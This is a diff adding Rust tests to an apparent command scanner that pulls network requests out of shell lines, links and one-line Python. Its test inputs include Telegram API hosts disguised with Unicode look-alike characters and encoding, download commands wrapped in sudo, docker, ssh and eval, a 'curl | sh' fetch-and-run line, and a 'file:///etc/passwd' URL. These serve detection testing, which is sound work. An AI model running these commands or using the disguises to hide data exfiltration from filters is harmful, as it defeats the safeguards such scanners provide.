@@ -329,3 +329,86 @@ fn a_line_is_read_the_same_behind_any_other() {
         }
     }
 }
+
+#[test]
+fn hosts_are_mapped_as_clients_map_them() {
+    let get = "GET https://api.telegram.org/x";
+    for text in [
+        "curl 'https://api\u{3002}telegram\u{ff0e}org/x'",
+        "curl https://\u{ff41}pi.\u{24e3}elegram.org/x",
+        "curl https://api%E3%80%82telegram.org/x",
+        "wget https://api\u{ff61}telegram.org/x",
+        "wget https://me@\u{ff21}PI.telegram.org:443/x",
+        "fetch('https://api\u{3002}telegram.org/x')",
+        "requests.get('https://\u{ff41}pi.telegram.org/x')",
+        "iwr https://api\u{3002}telegram.org/x",
+        "https api\u{3002}telegram.org/x",
+    ] {
+        check(text, get, "");
+    }
+    check("wget https://b\u{fc}cher.example/x", "GET https://xn--bcher-kva.example/x", "");
+}
+
+#[test]
+fn commands_behind_other_programs_are_read() {
+    let get = "GET https://a.example/x";
+    for text in [
+        "sudo -u root curl https://a.example/x",
+        "sudo -u root sh -c 'curl https://a.example/x'",
+        "doas -u www curl https://a.example/x",
+        "env -u http_proxy A=b curl https://a.example/x",
+        "nohup timeout -s KILL 5 nice -n 5 curl https://a.example/x &",
+        "docker run --rm -it -e A=b alpine:3 wget -qO- https://a.example/x",
+        "docker run --rm curlimages/curl:8.17.0 -s https://a.example/x",
+        "docker exec -u 0 web sh -c 'curl https://a.example/x'",
+        "kubectl exec -it web -c app -- curl https://a.example/x",
+        "ssh me@host curl https://a.example/x",
+        "ssh -p 22 host 'cd /tmp && curl https://a.example/x | sh'",
+        "eval 'curl https://a.example/x'",
+    ] {
+        check(text, get, "");
+    }
+    check("docker pull curl", "", "R011");
+}
+
+#[test]
+fn urls_are_read_out_of_what_is_around_them() {
+    let get = "GET https://a.example/x";
+    for text in [
+        "[a page](https://a.example/x)",
+        "- ![a page](hxxps://a[.]example/x \"title\")",
+        "hxxps://a[.]example/x)",
+        "wss://a.example/x",
+    ] {
+        check(text, get, "");
+    }
+    check("https://a.example/x_(y)", "GET https://a.example/x_(y)", "");
+    check("//a.example/x", "GET http://a.example/x", "");
+    for text in ["ssh://a.example", "ftp://a.example/x", "file:///etc/passwd", "ldap://a.example/"]
+    {
+        check(text, "", "R002");
+    }
+    check("{\"log\": {\"version\": \"1.2\",\n\"entries\": []}}", "", "R011");
+}
+
+#[test]
+fn python_in_one_line_is_read() {
+    let get = "GET https://a.example/x";
+    for text in [
+        "async with aiohttp.ClientSession() as s: await s.get('https://a.example/x')",
+        "http.client.HTTPSConnection('a.example').request('GET', '/x')",
+    ] {
+        check(text, get, "");
+    }
+}
+
+#[test]
+fn connect_to_is_the_target_of_the_tunnel() {
+    let mut findings = Findings::new(&"request".into());
+    let command = "curl --connect-to ::b.example:443 https://a.example/x http://c.example:8080/";
+    let requests = read(command, &mut findings);
+    let tunnels: Vec<_> = requests.iter().map(|request| request.connect_target.clone()).collect();
+    assert_eq!(tunnels, [Some(b"b.example:443".to_vec()), Some(b"b.example:443".to_vec())]);
+    assert_eq!(requests[0].server_name.as_deref(), Some(&b"a.example"[..]));
+    assert_eq!(requests[0].authority, b"a.example");
+}
